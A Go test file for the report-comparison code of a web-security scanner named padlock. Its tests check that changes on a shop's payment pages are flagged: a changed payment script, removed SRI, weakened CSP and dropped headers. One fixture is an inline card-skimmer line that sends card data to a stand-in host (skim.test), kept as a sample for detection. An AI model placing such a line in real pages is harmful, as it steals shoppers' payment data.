package history

import (
	"bytes"
	"fmt"
	"reflect"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/padlock-scan/padlock/report"
)

// spooledCopy is r written as JSON and read back spooled (report.Open, with its resources), as
// the watch's reports are: a crawl's spool, or a stored baseline.
func spooledCopy(t *testing.T, r *report.Report) *report.Report {
	t.Helper()
	if r == nil {
		return nil
	}
	sp, err := report.Open(bytes.NewReader(jsonOf(t, r)), true)
	if err != nil {
		t.Fatal(err)
	}
	if len(sp.Pages) != 0 {
		t.Fatal("report.Open kept the pages in memory")
	}
	t.Cleanup(func() { sp.Close() })
	return sp
}

// compare is Compare of base and cur, which must be the same when both are spooled.
func compare(t *testing.T, base, cur *report.Report) []Change {
	t.Helper()
	got, err := Compare(base, cur)
	if err != nil {
		t.Fatal(err)
	}
	spooled, err := Compare(spooledCopy(t, base), spooledCopy(t, cur))
	if err != nil {
		t.Fatal(err)
	}
	if !reflect.DeepEqual(got, spooled) {
		t.Fatalf("Compare of the spooled reports differs:\n in memory %+v\n   spooled %+v", got, spooled)
	}
	return got
}

// degraded is Degraded of base and cur, which must be the same when both are spooled.
func degraded(t *testing.T, base, cur *report.Report) []string {
	t.Helper()
	got, err := Degraded(base, cur)
	if err != nil {
		t.Fatal(err)
	}
	spooled, err := Degraded(spooledCopy(t, base), spooledCopy(t, cur))
	if err != nil {
		t.Fatal(err)
	}
	if !slices.Equal(got, spooled) {
		t.Fatalf("Degraded of the spooled reports differs:\n in memory %q\n   spooled %q", got, spooled)
	}
	return got
}

func kinds(cs []Change) []string {
	var out []string
	for _, c := range cs {
		out = append(out, c.Kind+" "+c.Subject)
	}
	return out
}

func TestCompareSeesAdditionsChangesAndRemovals(t *testing.T) {
	t.Parallel()
	base := shop(t0)
	if cs := compare(t, base, shop(t0.Add(time.Hour))); len(cs) != 0 {
		t.Fatalf("the same site compares with changes: %v", kinds(cs))
	}
	cur := shop(t0.Add(time.Hour))
	pay := &cur.Pages[1]
	// the payment provider's script changed and lost its SRI; a skimmer appeared inline; the
	// first-party inline script is gone; CSP now allows inline scripts; HSTS shorter; XFO gone
	cur.Scripts[0].SHA256, cur.Scripts[0].Integrity, cur.Scripts[0].IntegrityValid = hash("cc"), "", nil
	cur.Scripts[1] = report.Script{Kind: "inline", SHA256: hash("ee"), Party: "first", PaymentPages: []string{pay.URL}, Pages: []string{pay.URL},
		Line: 7, Snippet: "fetch('https://skim.test/?'+card)"}
	pay.CSP = []string{"script-src 'self' https://js.pay.test 'unsafe-inline'; object-src 'none'"}
	pay.SecurityHeaders["Content-Security-Policy"] = pay.CSP[0]
	pay.SecurityHeaders["Strict-Transport-Security"] = "max-age=60"
	delete(pay.SecurityHeaders, "X-Frame-Options")
	got := kinds(compare(t, base, cur))
	want := []string{
		"script-added inline sha256:" + hash("ee"),
		"script-changed https://js.pay.test/v3.js",
		"sri-removed https://js.pay.test/v3.js",
		"script-removed inline sha256:" + hash("bb"),
		"csp-weakened Content-Security-Policy",
		"header-removed X-Frame-Options",
		"header-weakened Strict-Transport-Security",
	}
	if !slices.Equal(got, want) {
		t.Errorf("changes:\n got %q\nwant %q", got, want)
	}
	cs := compare(t, base, cur)
	for _, c := range cs {
		if c.Kind == ScriptAdded && c.Detail != `inline script, line 7 of `+pay.URL+`: "fetch('https://skim.test/?'+card)"` {
			t.Errorf("added inline script detail %q", c.Detail)
		}
		if c.Kind == CSPWeakened && c.Detail != "script-src now allows 'unsafe-inline'" {
			t.Errorf("csp detail %q", c.Detail)
		}
		if c.Kind == HeaderWeakened && !strings.Contains(c.Detail, "includeSubDomains removed") {
			t.Errorf("hsts detail %q", c.Detail)
		}
		if len(c.Pages) != 1 || c.Pages[0] != pay.URL {
			t.Errorf("%s: pages %v", c.Kind, c.Pages)
		}
	}
	// CSP gone altogether: one change, not a header change besides
	cur2 := shop(t0.Add(time.Hour))
	cur2.Pages[1].CSP = nil
	delete(cur2.Pages[1].SecurityHeaders, "Content-Security-Policy")
	if got := kinds(compare(t, base, cur2)); !slices.Equal(got, []string{"csp-removed Content-Security-Policy"}) {
		t.Errorf("CSP removed: %q", got)
	}
}

func TestCSPWeaker(t *testing.T) {
	t.Parallel()
	for _, c := range []struct{ old, cur, want string }{
		{"script-src 'self'", "script-src 'self'", ""},
		{"script-src 'self' https://a.test", "script-src 'self'", ""},
		{"script-src 'self'", "script-src 'self' https://evil.test", "script-src now allows https://evil.test"},
		{"default-src 'self'; object-src 'none'", "default-src 'self'", "object-src removed"},
		{"script-src 'self'; upgrade-insecure-requests", "script-src 'self'", "upgrade-insecure-requests removed"},
		{"script-src 'self', frame-ancestors 'none'", "script-src 'self'", "1 policies, was 2"},
		{"script-src 'SELF'", "script-src 'self'", ""},
	} {
		if got := CSPWeaker(c.old, c.cur); got != c.want {
			t.Errorf("CSPWeaker(%q, %q) = %q, want %q", c.old, c.cur, got, c.want)
		}
	}
}

func TestDegraded(t *testing.T) {
	t.Parallel()
	base := shop(t0)
	if why := degraded(t, base, shop(t0)); len(why) != 0 {
		t.Fatalf("a healthy run is degraded: %v", why)
	}
	if why := degraded(t, nil, shop(t0)); len(why) != 0 {
		t.Fatalf("a healthy first run is degraded: %v", why)
	}
	for name, mutate := range map[string]func(r *report.Report){
		"payment page 500": func(r *report.Report) { r.Pages[1].Status = 500 },
		"payment page failed": func(r *report.Report) {
			r.Pages[1].Error, r.Pages[1].Status = "timeout", 0
		},
		"redirected to a login page": func(r *report.Report) {
			p := &r.Pages[1]
			p.Status, p.FinalURL, p.Payment = 200, "https://shop.test/login", false
		},
		"challenge page in place": func(r *report.Report) { r.Pages[1].Payment = false },
		"script not read":         func(r *report.Report) { r.Scripts[0].SHA256, r.Scripts[0].Status = "", 0 },
		"script 404":              func(r *report.Report) { r.Scripts[0].Status = 404 },
		"page gone":               func(r *report.Report) { r.Pages = r.Pages[:1] },
		"start URL 503":           func(r *report.Report) { r.Pages[0].Status = 503 },
	} {
		cur := shop(t0)
		mutate(cur)
		if why := degraded(t, base, cur); len(why) == 0 {
			t.Errorf("%s: not degraded", name)
		}
	}
}

// TestDegradedSaysWhyAScriptWasNotRead: a script of a payment page that got no answer is named
// with the error of padlock's request, from the page's resources (read back from the spool).
func TestDegradedSaysWhyAScriptWasNotRead(t *testing.T) {
	t.Parallel()
	cur := shop(t0)
	cur.Scripts[0].SHA256, cur.Scripts[0].Status = "", 0
	cur.Pages[1].Resources = []report.Resource{
		{URL: "https://cdn.shop.test/a.css", Element: "link", Attribute: "href", Kind: "stylesheet", Line: 3, Error: "timeout"},
		{URL: "https://js.pay.test/v3.js", Element: "script", Attribute: "src", Kind: "script", Line: 9, Error: "dial tcp: connection refused"},
	}
	why := degraded(t, shop(t0), cur)
	want := []string{"script https://js.pay.test/v3.js of payment page https://shop.test/checkout could not be read: dial tcp: connection refused"}
	if !slices.Equal(why, want) {
		t.Errorf("reasons:\n got %q\nwant %q", why, want)
	}
}

func TestChangesGroupPages(t *testing.T) {
	t.Parallel()
	var cs changeSet
	for i := 0; i < 25; i++ {
		cs.add(Change{Kind: CSPRemoved, Subject: "Content-Security-Policy", Old: "x"}, "https://shop.test/p"+string(rune('a'+i)))
	}
	l := cs.list()
	if len(l) != 1 || len(l[0].Pages) != maxPages || l[0].PageCount != 25 {
		t.Fatalf("one CSP change on 25 pages: %+v", l)
	}
}

// TestDegradedListsAThousandReasons: a run whose every payment page fails lists the first
// maxReasons problems and counts the rest, in the baseline's order.
func TestDegradedListsAThousandReasons(t *testing.T) {
	t.Parallel()
	base, cur := shop(t0), shop(t0)
	for _, r := range []*report.Report{base, cur} {
		for i := range maxReasons + 4 {
			u := fmt.Sprintf("https://shop.test/pay/%04d", i)
			p := report.Page{URL: u, FinalURL: u, Status: 200, Payment: true, Resources: []report.Resource{}}
			if r == cur {
				p.Status = 503
			}
			r.Pages = append(r.Pages, p)
		}
		r.Finish()
	}
	why := degraded(t, base, cur)
	if len(why) != maxReasons+1 || why[0] != "payment page https://shop.test/pay/0000 answers HTTP 503" ||
		why[maxReasons] != "and 4 more problems like these" {
		t.Errorf("%d reasons, first %q, last %q", len(why), why[0], why[len(why)-1])
	}
}

// TestChangesPastTheBoundAreCounted: past maxChanges of a kind, a change is counted once (on
// however many pages), not listed; one change after the kind's last says how many, and the
// other kinds are listed whole.
func TestChangesPastTheBoundAreCounted(t *testing.T) {
	t.Parallel()
	var cs changeSet
	for i := range maxChanges + 5 {
		for _, page := range []string{"https://shop.test/a", "https://shop.test/b"} {
			cs.add(Change{Kind: FindingNew, Subject: fmt.Sprintf("mixed-content-passive http://shop.test/%04d.jpg", i), New: "warning"}, page)
		}
	}
	cs.add(Change{Kind: FindingFixed, Subject: "sri-missing https://cdn.test/a.js", Old: "warning"}, "https://shop.test/a")
	cs.put(Change{Kind: FindingNew, Subject: "one more"}, firstOf{listed: []string{"https://shop.test/c"}, n: 1, max: maxPages})
	l := cs.list()
	if len(l) != maxChanges+2 {
		t.Fatalf("%d changes, want %d", len(l), maxChanges+2)
	}
	more := l[maxChanges]
	if more.Kind != FindingNew || more.Subject != "6 more" || more.Omitted != 6 || Count(l) != maxChanges+1+6 || !strings.Contains(more.Detail, "6 more finding-new changes are not listed") {
		t.Errorf("the count of the rest: %+v", more)
	}
	if l[maxChanges-1].Subject != fmt.Sprintf("mixed-content-passive http://shop.test/%04d.jpg", maxChanges-1) || len(l[0].Pages) != 2 {
		t.Errorf("listed: first %+v, last %+v", l[0], l[maxChanges-1])
	}
	if l[maxChanges+1].Kind != FindingFixed {
		t.Errorf("the fixed finding comes last: %+v", l[maxChanges+1])
	}
}

// TestCompareChangeValues pins what each change says (old and new values, pages) and which pages
// count: a payment page of both reports that loaded; a CSP change on a page that is not a
// payment page, and the scripts of a payment page that failed this time, are not changes.
func TestCompareChangeValues(t *testing.T) {
	t.Parallel()
	base, cur := shop(t0), shop(t0.Add(time.Hour))
	no := false
	cur.Scripts[0].SHA256, cur.Scripts[0].Integrity, cur.Scripts[0].IntegrityValid = hash("cc"), "sha384-y", &no
	base.Pages[0].CSP, cur.Pages[0].CSP = []string{"script-src 'self'"}, []string{"script-src *"} // the home page: not a payment page
	got := compare(t, base, cur)
	checkout := []string{"https://shop.test/checkout"}
	want := []Change{
		{Kind: ScriptChanged, Subject: "https://js.pay.test/v3.js", Pages: checkout, Old: hash("aa"), New: hash("cc")},
		{Kind: SRIInvalid, Subject: "https://js.pay.test/v3.js", Pages: checkout, New: hash("cc"),
			Detail: "the bytes served no longer match the integrity attribute: browsers refuse the script"},
		{Kind: SRIChanged, Subject: "https://js.pay.test/v3.js", Pages: checkout, Old: "sha384-x", New: "sha384-y"},
	}
	if !reflect.DeepEqual(got, want) {
		t.Errorf("changes:\n got %+v\nwant %+v", got, want)
	}

	// the home page becomes a payment page with the inline script on it; the checkout fails
	cur = shop(t0.Add(time.Hour))
	cur.Pages[0].Payment = true
	cur.Scripts[1].PaymentPages = []string{"https://shop.test/", "https://shop.test/checkout"}
	cur.Pages[1].Error, cur.Pages[1].Status = "timeout", 0
	cur.Scripts[0].SHA256 = hash("dd") // on the failed checkout only: not compared
	got = compare(t, base, cur)
	home := []string{"https://shop.test/"}
	want = []Change{
		{Kind: ScriptAdded, Subject: "inline sha256:" + hash("bb"), Pages: home, New: hash("bb"), Detail: "inline script"},
		{Kind: PaymentPageAdded, Subject: "https://shop.test/", Pages: home},
	}
	if !reflect.DeepEqual(got, want) {
		t.Errorf("changes:\n got %+v\nwant %+v", got, want)
	}
}

// TestCompareEntriesOfOneKey: two entries of the inventory that the comparison takes as one
// script (URLs that differ by a fragment) on one payment page: the last counts, as when each
// page's scripts were a map, so a report compared with itself has no change.
func TestCompareEntriesOfOneKey(t *testing.T) {
	t.Parallel()
	withTwo := func(at time.Time, a, b string) *report.Report {
		r := shop(at)
		for _, e := range []struct{ url, integrity string }{{"https://cdn.test/x.js#a", a}, {"https://cdn.test/x.js#b", b}} {
			r.Scripts = append(r.Scripts, report.Script{Kind: "external", URL: e.url, SHA256: hash("ee"), Status: 200, Party: "third", Integrity: e.integrity,
				PageCount: 1, Pages: []string{"https://shop.test/checkout"}, PaymentPages: []string{"https://shop.test/checkout"}})
		}
		return r
	}
	if got := compare(t, withTwo(t0, "sha384-A", "sha384-B"), withTwo(t0.Add(time.Hour), "sha384-A", "sha384-B")); len(got) != 0 {
		t.Errorf("a report compared with itself: %+v", got)
	}
	got := kinds(compare(t, withTwo(t0, "sha384-A", "sha384-B"), withTwo(t0.Add(time.Hour), "sha384-A", "sha384-C")))
	if !slices.Equal(got, []string{"sri-changed https://cdn.test/x.js#b"}) {
		t.Errorf("the last entry's integrity changed: %q", got)
	}
}

// TestDegradedCountsEveryUnreadScript: scripts that could not be read past the bound are counted
// in the last reason too.
func TestDegradedCountsEveryUnreadScript(t *testing.T) {
	t.Parallel()
	cur := shop(t0)
	cur.Pages[1].Status = 500
	for i := range maxReasons + 5 {
		cur.Scripts = append(cur.Scripts, report.Script{Kind: "external", URL: fmt.Sprintf("https://cdn.test/%04d.js", i), Status: 404, Party: "third",
			PageCount: 1, Pages: []string{"https://shop.test/checkout"}, PaymentPages: []string{"https://shop.test/checkout"}})
	}
	why := degraded(t, shop(t0), cur)
	if len(why) != maxReasons+1 || why[maxReasons] != "and 6 more problems like these" {
		t.Errorf("%d reasons, the last %q", len(why), why[len(why)-1])
	}
}
